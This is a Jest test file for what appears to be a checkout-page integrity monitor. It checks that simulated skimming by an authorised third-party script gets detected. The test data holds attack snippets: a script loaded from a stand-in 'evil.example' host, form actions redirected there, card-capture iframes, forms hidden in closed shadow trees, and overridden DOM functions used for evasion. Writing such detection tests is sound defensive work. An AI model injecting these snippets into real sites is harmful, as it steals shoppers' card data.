import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { changesOf, compared } from './compared.ts';
import { type Shop, startShop } from './shop.ts';

// What only a browser sees: a shop that has authorised a script of somebody else, and what that script does.

const long = `/* ${'x'.repeat(12_000)} */`;
let code = '';
let thirdParty: Server;
let shop: Shop;

beforeAll(async () => {
  thirdParty = createServer(({ url }, response) =>
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(url === '/counts.js' ? code : '0;'),
  );
  await new Promise<void>((resolve) => thirdParty.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(thirdParty.address() as AddressInfo).port}`;
  shop = await startShop([origin], {
    'checkout/index.html': [
      '<!doctype html><title>Checkout</title><script type="module" src="/assets/js/cart-count.js"></script>',
      `<script>${long}</script><script defer src="${origin}/counts.js"></script>`,
      '<main><form method="post" action="/api/session"></form></main>',
    ].join('\n'),
  });
});

afterEach(() => {
  code = '';
  shop.change({});
});

afterAll(async () => {
  await shop.stop();
  await new Promise((resolve) => thirdParty.close(resolve));
});

const add = (tag: string, settings: Readonly<Record<string, string>>, into = 'document.body') =>
  `Object.assign(${into}.appendChild(document.createElement('${tag}')), ${JSON.stringify(settings)});`;

describe('a script that the owner has authorised', () => {
  test.each<readonly [string, string, readonly string[]]>([
    ['is no difference, nor is a long inline script', '0;', []],
    [
      'may add what its own host serves',
      "document.body.append(Object.assign(document.createElement('script'), { src: new URL('/more.js', document.querySelector('script[src^=http]').src) }));",
      [],
    ],
    [
      'may add a frame without content, and a form of the shop',
      `${add('iframe', {})}${add('form', { action: '/x' })}`,
      [],
    ],
    [
      'may add one of the shop that the page names, under a query of its own',
      add('script', { src: '/assets/js/cart.js?v=2', type: 'module' }),
      [],
    ],
    [
      'is noticed when it adds one of another host, which the policy stops',
      add('script', { src: 'https://evil.example/skim.js' }),
      ['/checkout/ script-added https://evil.example', '/checkout/ script-loaded https://evil.example'],
    ],
    [
      'is noticed when it adds one of the shop that no page names',
      add('script', { src: '/assets/js/pages/home.js', type: 'module' }),
      [
        '/checkout/ script-added /assets/js/pages/home.js',
        '/checkout/ script-loaded /assets/js/pages/home.js',
      ],
    ],
    [
      'is noticed when it adds inline code',
      add('script', { text: '1' }),
      ["/checkout/ inline-script-added 'sha256-a4ayc/80/OGda4BO/1o/V0etpOqiLx1JwB5S3beHW0s='"],
    ],
    [
      'is noticed when it changes where the form leads',
      "document.forms[0].action = 'https://evil.example/pay';",
      ['/checkout/ form-added https://evil.example'],
    ],
    [
      'is noticed when it hides a form in a closed shadow tree',
      `const host = document.querySelector('main').attachShadow({ mode: 'closed' }); ${add('form', { action: 'https://evil.example/pay' }, 'host')}`,
      ['/checkout/ form-added https://evil.example'],
    ],
    [
      'is noticed when it puts a frame over the page',
      add('iframe', { src: 'https://evil.example/card' }),
      ['/checkout/ frame-added https://evil.example'],
    ],
    [
      'is noticed when it writes a frame itself',
      add('iframe', { srcdoc: '<form action="https://evil.example/pay"></form>' }),
      ['/checkout/ frame-added about:', '/checkout/ form-added https://evil.example'],
    ],
    [
      'is noticed when it puts a frame over the page whose text it made up',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob(['x'])) }));",
      ['/checkout/ frame-added blob:'],
    ],
    [
      'cannot hide what it loads behind a crowd of what it may load',
      "const { src } = document.querySelector('script[src^=http]'); const all = Array.from({ length: 520 }, (_, i) => import(new URL(`/more.js?${i}`, src)).catch(() => {})); Promise.all(all).then(() => import('https://evil.example/skim.js'));",
      ['/checkout/ script-loaded about:'],
    ],
    [
      'is noticed when it leads away',
      "setTimeout(() => { location.href = '/checkout/done/'; });",
      ['/checkout/ led-away /checkout/done/'],
    ],
    ['may write into the address of the page', "history.replaceState({}, '', '?step=2#pay');", []],
    ['cannot hold the run up with a question', "setTimeout(() => alert('?'));", []],
    ['cannot hold the run up without rest', "setInterval(() => fetch('/assets/site.css'), 50);", []],
    [
      'cannot hide from the run by what it does to the page’s own functions',
      `Document.prototype.querySelectorAll = () => []; Object.defineProperty(document, 'scripts', { value: [] }); ${add('script', { text: '1' })}`,
      ["/checkout/ inline-script-added 'sha256-a4ayc/80/OGda4BO/1o/V0etpOqiLx1JwB5S3beHW0s='"],
    ],
  ])(
    '%s',
    async (_, does, seen) => {
      code = does;
      expect(await changesOf(shop, 'browser')).toEqual(seen);
    },
    30_000,
  );
});

test('a server that shows browsers another page is noticed', async () => {
  shop.change({
    onlyForBrowsers: true,
    files: { '/checkout/': (text) => text.replace('/api/session', 'https://evil.example/pay') },
  });
  expect(await changesOf(shop, 'html')).toEqual([]);
  expect(await changesOf(shop, 'browser')).toEqual([
    '/checkout/ page-bytes /checkout/',
    '/checkout/ form-added https://evil.example',
    '/checkout/ form-removed /api/session',
  ]);
}, 30_000);

test('a page that does not load is no difference and no comparison either', async () => {
  shop.change({ onlyForBrowsers: true, hangs: true });
  const { changes, complete, lines, counted } = await compared(shop, 'browser', 500);
  expect({ changes, complete, counted }).toEqual({ changes: [], complete: false, counted: [] });
  expect(lines).toEqual([
    {
      level: 'error',
      service: 'page-integrity',
      message: 'page not reached',
      page: '/checkout/',
      error: 'UnreachableError',
      causes: ['TimeoutError'],
    },
    { level: 'info', service: 'page-integrity', message: 'pages compared', outcome: 'incomplete', count: 0 },
  ]);
}, 30_000);
